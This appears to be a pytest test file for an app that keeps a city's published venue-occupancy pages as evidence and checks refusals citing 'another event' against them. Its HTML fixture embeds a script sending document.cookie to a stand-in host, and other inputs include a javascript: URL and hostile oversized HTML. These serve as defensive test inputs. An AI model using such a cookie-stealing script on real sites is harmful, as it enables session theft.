"""The akimat's published occupancy kept as evidence, its table read, and held against "another
event" refusals (issue 20), through the app's own functions on real cases."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import pytest

from evidence import occupancy, occupancy_check, store
from evidence.analysis import Analysis
from evidence.errors import KnownError
from evidence.model import EntrySource, EventsRecorded, OccupancyEntry, PageCapture
from evidence.procedure import ProcedureCode, procedure_findings
from evidence.store import Case, schema
from evidence.timing import zone
from tests.helpers.casework import ALMATY, add_claim, add_photo, add_venue, observe

URL = "https://almaty.gov.kz/ru/occupancy"
TABLE = """<!DOCTYPE html><html><head><meta charset="utf-8">
<script>document.location = "https://evil.example/" + document.cookie</script></head><body>
<table><tr><th>Наименование мероприятия</th><th>Место проведения</th><th>Дата</th>
<th>Время начала</th><th>Время окончания</th><th>Количество участников</th></tr>
<tr><td>Городской концерт</td><td>Square</td><td>10.06.2025</td><td>10:00</td><td>14:00</td>
<td>1 500</td></tr>
<tr><td>Ярмарка</td><td>Сквер у театра</td><td>11.06.2025</td><td>09:00</td><td>18:00</td>
<td>200</td></tr>
<tr><td>Без даты</td><td>Square</td><td>скоро</td><td>09:00</td><td>18:00</td><td>5</td></tr>
</table></body></html>"""


@pytest.fixture
def case(tmp_path: Path):
    with Case.create(tmp_path / "case", title="Occupancy", timezone=ALMATY, actor="t") as c:
        yield c


def _page(tmp_path: Path, text: str = TABLE, name: str = "occupancy.html") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _import(case: Case, path: Path, covers=("2025-06-01", "2025-06-30")):
    page, _new = occupancy.import_page(case, path, url=URL, captured="2025-06-05 10:30+05:00",
                                       capture=PageCapture.SAVED, actor="aigerim", covers=covers)
    return page


def _entry(case: Case, page_id: int, venue_id: int, day: str, start: str, end: str,
           participants: int | None = None) -> OccupancyEntry:
    tz = zone(ALMATY)
    return occupancy.add_entry(case, OccupancyEntry(
        page_id, venue_id, datetime.fromisoformat(f"{day} {start}").replace(tzinfo=tz),
        datetime.fromisoformat(f"{day} {end}").replace(tzinfo=tz), ALMATY, "Концерт",
        participants), "aigerim")


def _findings(case: Case):
    data = store.read(case)
    results = {r.claim_id: r for r in Analysis(data).result().claims}
    check = occupancy_check.checker(data, results)
    return {c.key: procedure_findings(c, data.venue(c.venue_id), occupancy=check)
            for c in data.claims}


def test_a_saved_page_is_kept_as_an_original_with_its_address_and_capture_time(case, tmp_path):
    page = _import(case, _page(tmp_path))
    assert page.media_type == "text/html" and page.captured_utc == "2025-06-05T05:30:00Z"
    assert case.files.read_bytes(page.stored_path) == TABLE.encode()
    assert not (case.path_of(page.stored_path).stat().st_mode & 0o222)  # read-only
    entry = list(store.log.entries(case))[-1]
    assert entry.action == occupancy.IMPORTED and entry.object_hash == page.sha256
    assert entry.details["url"] == URL and entry.details["captured_utc"] == page.captured_utc
    again, new = occupancy.import_page(case, _page(tmp_path), url=URL, captured="2025-06-05 00:00Z",
                                       capture=PageCapture.SAVED, actor="t")
    assert not new and again.id == page.id
    assert store.read(case).occupancy_pages == (page,)


def test_a_page_changed_on_disk_is_a_discrepancy_verify_names(case, tmp_path):
    from evidence import verify

    page = _import(case, _page(tmp_path))
    assert verify.verify(case, actor="t").intact
    path = case.path_of(page.stored_path)
    path.chmod(0o644)
    path.write_bytes(TABLE.encode().replace(b"1 500", b"9 999"))
    found = verify.verify(case, actor="t").problems
    assert any(f"Occupancy page {page.id}" in p and "has changed" in p for p in found)


@pytest.mark.parametrize(("content", "words"), [
    (b"just some text, no page", "not a saved web page"),
    (b"", "not a saved web page"),
])
def test_a_file_that_is_no_page_is_refused_with_a_clear_message(case, tmp_path, content, words):
    path = tmp_path / "page.html"
    path.write_bytes(content)
    with pytest.raises(KnownError, match=words):
        _import(case, path)
    assert store.read(case).occupancy_pages == ()
    assert not list((case.root / "originals").rglob("*.*"))


@pytest.mark.parametrize(("url", "captured", "words"), [
    ("almaty.gov.kz", "2025-06-05 10:30+05:00", "not a web page's address"),
    ("javascript:alert(1)", "2025-06-05 10:30+05:00", "not a web page's address"),
    (URL, "2025-06-05 10:30", "has no UTC offset"),
    (URL, "yesterday", "is not a moment"),
    (URL, "2999-01-01 10:00Z", "in the future"),
])
def test_an_address_or_a_moment_that_cannot_be_kept_is_refused(case, tmp_path, url, captured,
                                                                words):
    with pytest.raises(KnownError, match=words):
        occupancy.import_page(case, _page(tmp_path), url=url, captured=captured,
                              capture=PageCapture.SAVED, actor="t")


def test_the_pages_table_is_read_into_entries_a_person_maps_the_unmatched_place(case, tmp_path):
    square = add_venue(case, "square")
    theatre = add_venue(case, "theatre-park")
    page = _import(case, _page(tmp_path))
    reading = occupancy.read_table(case, page.id)
    assert [(e.place, e.venue_id, e.expected_participants) for e in reading.entries] == [
        ("Square", square, 1500), ("Сквер у театра", None, 200)]
    assert reading.unmatched_places == ["Сквер у театра"]
    assert [why for _row, why in reading.skipped] == ["no date in 'скоро'"]
    mapped = occupancy.read_table(case, page.id, {"Сквер у театра": "theatre-park"})
    added = occupancy.enter_read(case, page.id, mapped, ALMATY, "aigerim")
    assert [(e.venue_id, e.day, f"{e.start:%H:%M}-{e.end:%H:%M}", e.source) for e in added] == [
        (square, "2025-06-10", "10:00-14:00", EntrySource.PAGE_TABLE),
        (theatre, "2025-06-11", "09:00-18:00", EntrySource.PAGE_TABLE)]
    assert added[0].event_name == "Городской концерт"
    assert occupancy.enter_read(case, page.id, mapped, ALMATY, "aigerim") == []  # not twice
    assert len(store.read(case).occupancy_entries) == 2


def test_a_page_without_a_table_or_a_pdf_says_to_type_the_entries_in(case, tmp_path):
    page = _import(case, _page(tmp_path, "<html><body><p>Занятость: нет данных</p>"))
    with pytest.raises(KnownError, match="no table whose header names a place"):
        occupancy.read_table(case, page.id)
    pdf = tmp_path / "page.pdf"
    pdf.write_bytes(b"%PDF-1.4\n%%EOF\n")
    kept = _import(case, pdf)
    assert kept.media_type == "application/pdf"
    with pytest.raises(KnownError, match="only a saved HTML page has a table"):
        occupancy.read_table(case, kept.id)


def test_hostile_html_is_read_within_bounds_and_never_run(case, tmp_path):
    add_venue(case, "square")
    rows = "".join("<tr><td>Square</td><td>10.06.2025</td><td>10:00-11:00</td></tr>"
                   for _ in range(5000))
    text = ("<html><table><tr><th>Место</th><th>Дата</th><th>Время</th></tr>" + rows
            + "<script>" + "<tr><td>Square</td><td>01.06.2025</td><td>1:00-2:00</td></tr>" * 3
            + "</script><td>" + "x" * 100_000 + "</td></table>")
    page = _import(case, _page(tmp_path, text))
    reading = occupancy.read_table(case, page.id)
    assert len(reading.entries) < 2000 and reading.cut  # the rows past the limit are said
    assert all(str(e.day) == "2025-06-10" for e in reading.entries)


def test_an_other_event_refusal_with_no_published_event_is_event_not_published(case, tmp_path):
    square = add_venue(case, "square")
    claim = add_claim(case, square, "2025-06-12 10:00", "2025-06-12 18:00", "other_event")
    page = _import(case, _page(tmp_path))
    _entry(case, page.id, square, "2025-06-10", "10:00", "14:00", 1500)  # another day
    occupancy.mark_complete(case, page.id, "aigerim")
    [found] = _findings(case)[claim]
    assert found.code is ProcedureCode.EVENT_NOT_PUBLISHED
    assert found.fact["window_days"] == ["2025-06-12"]
    assert found.fact["pages"][0]["url"] == URL
    text = found.as_json()["statement"]
    assert URL in text and "2025-06-05T05:30:00Z" in text and "2025-06-01" in text
    assert "61-NP" in found.as_json()["rule"]


def test_a_page_that_does_not_cover_the_refusals_dates_claims_no_absence(case, tmp_path):
    square = add_venue(case, "square")
    claim = add_claim(case, square, "2025-07-02 10:00", "2025-07-02 18:00", "other_event")
    _import(case, _page(tmp_path))  # covers June only
    [found] = _findings(case)[claim]
    assert found.code is ProcedureCode.OCCUPANCY_NOT_COVERED
    assert found.fact["days_not_covered"] == ["2025-07-02"]
    assert "whose events were recorded lists 2025-07-02" in found.as_json()["statement"]


def test_a_published_event_gives_its_expected_participants_beside_the_head_counts(case,
                                                                                 tmp_path):
    square = add_venue(case, "square")
    claim = add_claim(case, square, "2025-06-10 09:00", "2025-06-10 18:00", "other_event")
    photo = add_photo(case, tmp_path, "a.jpg", "2025-06-10 11:00")
    observe(case, photo, "venue_empty", people=6)
    page = _import(case, _page(tmp_path))
    _entry(case, page.id, square, "2025-06-10", "10:00", "14:00", 1500)
    [found] = _findings(case)[claim]
    assert found.code is ProcedureCode.EVENT_PUBLISHED
    assert found.fact["expected_participants"] == 1500
    assert found.fact["largest_head_count"] == 6 and found.fact["head_count_photos"] == [photo]
    text = found.as_json()["statement"]
    assert "1,500" in text and "6" in text


def test_other_refusals_and_cases_without_pages_get_no_occupancy_finding(case, tmp_path):
    square = add_venue(case, "square")
    repair = add_claim(case, square, "2025-06-12 10:00", "2025-06-12 18:00", "repair_works")
    other = add_claim(case, square, "2025-06-13 10:00", "2025-06-13 18:00", "other_event",
                      number="Z-2")
    codes = {k: [f.code for f in v] for k, v in _findings(case).items()}
    assert ProcedureCode.EVENT_NOT_PUBLISHED not in codes[other]
    occupancy.mark_complete(case, _import(case, _page(tmp_path)).id, "aigerim")
    codes = {k: [f.code for f in v] for k, v in _findings(case).items()}
    assert ProcedureCode.EVENT_NOT_PUBLISHED in codes[other]
    assert not {ProcedureCode.EVENT_NOT_PUBLISHED, ProcedureCode.EVENT_PUBLISHED} & set(
        codes[repair])


def test_entries_are_audited_a_removal_keeps_its_reason(case, tmp_path):
    square = add_venue(case, "square")
    page = _import(case, _page(tmp_path))
    entry = _entry(case, page.id, square, "2025-06-10", "10:00", "14:00")
    assert store.audit.problems(case, store.log.entries(case)) == []
    case.conn.execute("UPDATE occupancy_entries SET expected_participants = 10")
    assert store.audit.problems(case, store.log.entries(case)) == [
        f"Occupancy entry {entry.id} differs from what the custody log recorded: it was edited "
        "outside Skver."]
    case.conn.execute("UPDATE occupancy_entries SET expected_participants = NULL")
    assert entry.id is not None
    occupancy.remove_entry(case, entry.id, "aigerim", "typed on the wrong page")
    assert list(store.log.entries(case))[-1].details["reason"] == "typed on the wrong page"
    assert store.audit.problems(case, store.log.entries(case)) == []


def test_a_case_made_before_the_occupancy_tables_opens_and_takes_pages(tmp_path, monkeypatch):
    at = schema.MIGRATIONS.index(schema._V9)
    with monkeypatch.context() as patch:
        patch.setattr(schema, "MIGRATIONS", schema.MIGRATIONS[:at])
        Case.create(tmp_path / "old", title="Old", timezone=ALMATY, actor="t").close()
    with Case.open(tmp_path / "old") as case:
        assert case.conn.execute("PRAGMA user_version").fetchone()[0] == len(schema.MIGRATIONS)
        assert _import(case, _page(tmp_path)).id == 1


def test_a_capture_is_kept_as_pdf_and_html_never_in_plaintext_in_an_encrypted_case(tmp_path):
    from tests.helpers.encrypted import SECRET, build_encrypted_case

    root, _markers = build_encrypted_case(tmp_path)
    html = TABLE.encode()
    pdf = b"%PDF-1.7\n" + "Занятость специализированных мест".encode() + b"\n%%EOF\n"
    with Case.open(root, passphrase=SECRET) as case:
        kept_pdf, kept_html = occupancy.import_captured(
            case, pdf, html, url=URL, captured="2025-06-05 10:30+05:00", actor="aigerim")
        assert (kept_pdf.media_type, kept_html.media_type) == ("application/pdf", "text/html")
        assert kept_html.same_capture == kept_pdf.id
        assert {kept_pdf.capture, kept_html.capture} == {PageCapture.CAPTURED}
        assert case.files.read_bytes(kept_html.stored_path) == html
        assert case.files.read_bytes(kept_pdf.stored_path) == pdf
    for path in root.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert "Занятость".encode() not in data and b"1 500" not in data, path


def test_text_from_the_page_is_shown_not_obeyed_in_the_finding(case, tmp_path):
    square = add_venue(case, "square")
    claim = add_claim(case, square, "2025-06-10 09:00", "2025-06-10 18:00", "other_event")
    page = _import(case, _page(tmp_path, TABLE.replace("Городской концерт",
                                                       "Концерт\u202e тоннеледоп\n")))
    occupancy.enter_read(case, page.id, occupancy.read_table(case, page.id), ALMATY, "t")
    [found] = _findings(case)[claim]
    text = found.as_json()["statement"]
    assert "\u202e" not in text and "\\u202e" in text


def test_an_evening_event_ends_the_next_day_and_a_row_of_no_length_is_said(case, tmp_path):
    square = add_venue(case, "square")
    page = _import(case, _page(tmp_path, TABLE.replace("<td>10:00</td><td>14:00</td>",
                                                       "<td>22:00</td><td>02:00</td>")
                                                .replace("<td>09:00</td><td>18:00</td>",
                                                         "<td>09:00</td><td>09:00</td>")))
    reading = occupancy.read_table(case, page.id)
    assert ("the start and end times are the same" in [why for _row, why in reading.skipped])
    [entry] = occupancy.enter_read(case, page.id, reading, ALMATY, "t")
    assert entry.venue_id == square
    assert (f"{entry.start:%Y-%m-%d %H:%M}", f"{entry.end:%Y-%m-%d %H:%M}") == (
        "2025-06-10 22:00", "2025-06-11 02:00")


def test_a_table_with_date_and_time_in_one_column(case, tmp_path):
    square = add_venue(case, "square")
    text = ("<html><table><tr><th>Место проведения</th><th>Дата и время проведения</th>"
            "<th>Ожидаемое количество участников</th></tr>"
            "<tr><td>Square</td><td>10.06.2025 с 10:00 до 14:00</td><td>300</td></tr>"
            "<tr><td>Square</td><td>11.06.2025 10.30</td><td>5</td></tr></table>")
    page = _import(case, _page(tmp_path, text))
    reading = occupancy.read_table(case, page.id)
    [(one, two)] = [(e.start, e.end) for e in reading.entries]
    assert (f"{one:%H:%M}", f"{two:%H:%M}", reading.entries[0].venue_id) == ("10:00", "14:00",
                                                                              square)
    assert [why for _row, why in reading.skipped] == ["no start and end time"]


@pytest.mark.parametrize(("printed", "day"), [
    ("10 июня 2025 г.", "2025-06-10"), ("1 мая 2025", "2025-05-01"),
    ("2025 жылғы 10 маусым", "2025-06-10"), ("10.06.2025", "2025-06-10"),
    ("2025-06-10", "2025-06-10"),
])
def test_dates_as_russian_and_kazakh_pages_write_them(case, tmp_path, printed, day):
    add_venue(case, "square")
    text = ("<html><table><tr><th>Место</th><th>Дата</th><th>Время</th></tr>"
            f"<tr><td>Square</td><td>{printed}</td><td>10.00–14.00</td></tr></table>")
    page = _import(case, _page(tmp_path, text))
    [entry] = occupancy.read_table(case, page.id).entries
    assert (str(entry.day), f"{entry.start:%H:%M}-{entry.end:%H:%M}") == (day, "10:00-14:00")


def test_a_kazakh_page_header(case, tmp_path):
    square = add_venue(case, "square")
    text = ("<html><table><tr><th>Іс-шараның атауы</th><th>Өткізу орны</th><th>Күні</th>"
            "<th>Басталу уақыты</th><th>Аяқталу уақыты</th><th>Қатысушылар саны</th></tr>"
            "<tr><td>Концерт</td><td>Square</td><td>2025 жылғы 10 маусым</td><td>10:00</td>"
            "<td>14:00</td><td>1 500</td></tr></table>")
    page = _import(case, _page(tmp_path, text))
    [entry] = occupancy.read_table(case, page.id).entries
    assert (entry.venue_id, entry.event_name, entry.expected_participants) == (
        square, "Концерт", 1500)


def test_a_date_no_schedule_lists_is_said_not_kept(case, tmp_path):
    # Was OverflowError: 31.12.9999 22:00-02:00 ends past the calendar (fuzz/fuzz_occupancy.py).
    add_venue(case, "square")
    text = ("<html><table><tr><th>Место</th><th>Дата</th><th>Время</th></tr>"
            "<tr><td>Square</td><td>31.12.9999</td><td>22:00-02:00</td></tr>"
            "<tr><td>Square</td><td>01.01.0001</td><td>10:00-12:00</td></tr></table>")
    page = _import(case, _page(tmp_path, text))
    reading = occupancy.read_table(case, page.id)
    assert reading.entries == () and len(reading.skipped) == 2
    assert all("not a date of an akimat's schedule" in why for _row, why in reading.skipped)


# A page whose events nobody recorded shows no absence (found in the real window: its dates set,
# its table never read, no entry typed, and the refusal got event_not_published though the page
# lists a concert there).
CLEAN_TABLE = """<html><body><table><tr><th>Наименование мероприятия</th><th>Место проведения</th>
<th>Дата</th><th>Время начала</th><th>Время окончания</th><th>Количество участников</th></tr>
<tr><td>Городской концерт</td><td>Square</td><td>12.06.2025</td><td>10:00</td><td>14:00</td>
<td>1 500</td></tr>
<tr><td>Ярмарка</td><td>Парк у реки</td><td>12.06.2025</td><td>09:00</td><td>18:00</td>
<td>200</td></tr></table></body></html>"""


def test_a_page_whose_table_was_never_read_claims_no_absence(case, tmp_path):
    square = add_venue(case, "square")
    claim = add_claim(case, square, "2025-06-12 10:00", "2025-06-12 18:00", "other_event")
    page = _import(case, _page(tmp_path, CLEAN_TABLE))
    assert page.events_recorded is None
    [found] = _findings(case)[claim]
    assert found.code is ProcedureCode.OCCUPANCY_NOT_COVERED
    assert found.fact["days_not_covered"] == ["2025-06-12"]
    assert found.fact["pages"][0]["events_recorded"] is None
    assert "its events not recorded" in found.as_json()["statement"]


def test_the_same_page_read_from_its_table_shows_the_concert(case, tmp_path):
    square = add_venue(case, "square")
    claim = add_claim(case, square, "2025-06-12 10:00", "2025-06-12 18:00", "other_event")
    page = _import(case, _page(tmp_path, CLEAN_TABLE))
    occupancy.enter_read(case, page.id, occupancy.read_table(case, page.id), ALMATY, "aigerim")
    assert occupancy.page(case, page.id).events_recorded is EventsRecorded.TABLE
    [found] = _findings(case)[claim]
    assert found.code is ProcedureCode.EVENT_PUBLISHED
    assert found.fact["expected_participants"] == 1500


def test_a_page_read_with_nothing_at_the_venue_is_event_not_published(case, tmp_path):
    square = add_venue(case, "square")
    claim = add_claim(case, square, "2025-06-12 10:00", "2025-06-12 18:00", "other_event")
    page = _import(case, _page(tmp_path, CLEAN_TABLE.replace("<td>Square</td>",
                                                             "<td>Парк у реки</td>")))
    added = occupancy.enter_read(case, page.id, occupancy.read_table(case, page.id), ALMATY,
                                 "aigerim")
    assert added == []  # no row is at a case venue, yet the page was read
    entry = list(store.log.entries(case))[-1]
    assert entry.action == occupancy.PAGE_READ and entry.details["events_recorded"] == "table"
    assert entry.details["places_matching_no_venue"] == ["Парк у реки"]
    [found] = _findings(case)[claim]
    assert found.code is ProcedureCode.EVENT_NOT_PUBLISHED
    assert "its events read from its own table" in found.as_json()["statement"]
    assert store.audit.problems(case, store.log.entries(case)) == []


def test_a_table_not_read_through_leaves_the_page_unread(case, tmp_path):
    square = add_venue(case, "square")
    claim = add_claim(case, square, "2025-06-12 10:00", "2025-06-12 18:00", "other_event")
    page = _import(case, _page(tmp_path))  # TABLE has a row whose date cannot be read
    reading = occupancy.read_table(case, page.id)
    assert reading.skipped
    occupancy.enter_read(case, page.id, reading, ALMATY, "aigerim")
    assert occupancy.page(case, page.id).events_recorded is None
    [found] = _findings(case)[claim]
    assert found.code is ProcedureCode.OCCUPANCY_NOT_COVERED


def test_a_page_marked_complete_by_a_person_is_event_not_published(case, tmp_path):
    square = add_venue(case, "square")
    claim = add_claim(case, square, "2025-06-12 10:00", "2025-06-12 18:00", "other_event")
    pdf = tmp_path / "page.pdf"
    pdf.write_bytes(b"%PDF-1.4\n%%EOF\n")
    page = _import(case, pdf)
    _entry(case, page.id, square, "2025-06-10", "10:00", "14:00", 1500)  # another day
    assert _findings(case)[claim][0].code is ProcedureCode.OCCUPANCY_NOT_COVERED
    marked = occupancy.mark_complete(case, page.id, "aigerim")
    assert marked.events_recorded is EventsRecorded.PERSON
    assert marked.events_recorded_by == "aigerim" and marked.events_recorded_utc
    [found] = _findings(case)[claim]
    assert found.code is ProcedureCode.EVENT_NOT_PUBLISHED
    assert "marked complete by a person" in found.as_json()["statement"]
    assert found.fact["pages"][0]["events_recorded_by"] == "aigerim"
    assert store.audit.problems(case, store.log.entries(case)) == []
    with pytest.raises(KnownError, match="no occupancy page 99"):
        occupancy.mark_complete(case, 99, "aigerim")


def test_a_case_made_before_the_mark_opens_migrates_and_verifies(tmp_path, monkeypatch):
    before = schema.MIGRATIONS.index(schema._V10)
    with monkeypatch.context() as patch:
        patch.setattr(schema, "MIGRATIONS", schema.MIGRATIONS[:before])
        with Case.create(tmp_path / "old", title="Old", timezone=ALMATY, actor="t") as old:
            square = add_venue(old, "square")
            add_claim(old, square, "2025-06-12 10:00", "2025-06-12 18:00", "other_event")
            _import(old, _page(tmp_path, CLEAN_TABLE))
            assert old.conn.execute("PRAGMA user_version").fetchone()[0] == before
    with Case.open(tmp_path / "old") as case:
        assert case.conn.execute("PRAGMA user_version").fetchone()[0] == len(schema.MIGRATIONS)
        [page] = occupancy.pages(case)
        assert page.events_recorded is None
        assert store.audit.problems(case, store.log.entries(case)) == []
        [found] = next(iter(_findings(case).values()))
        assert found.code is ProcedureCode.OCCUPANCY_NOT_COVERED
        occupancy.mark_complete(case, page.id, "t")
        assert store.audit.problems(case, store.log.entries(case)) == []


def test_a_bundles_page_row_without_the_mark_reads_as_unrecorded(case, tmp_path):
    page = _import(case, _page(tmp_path, CLEAN_TABLE))
    [row] = store.audit.rows_as_stored(case, "occupancy_pages")
    assert "events_recorded" not in row  # NULL later columns are left out, as an older bundle
    assert store.occupancy.page_from_stored(row) == page
    assert page.events_recorded is None and page.events_recorded_by is None
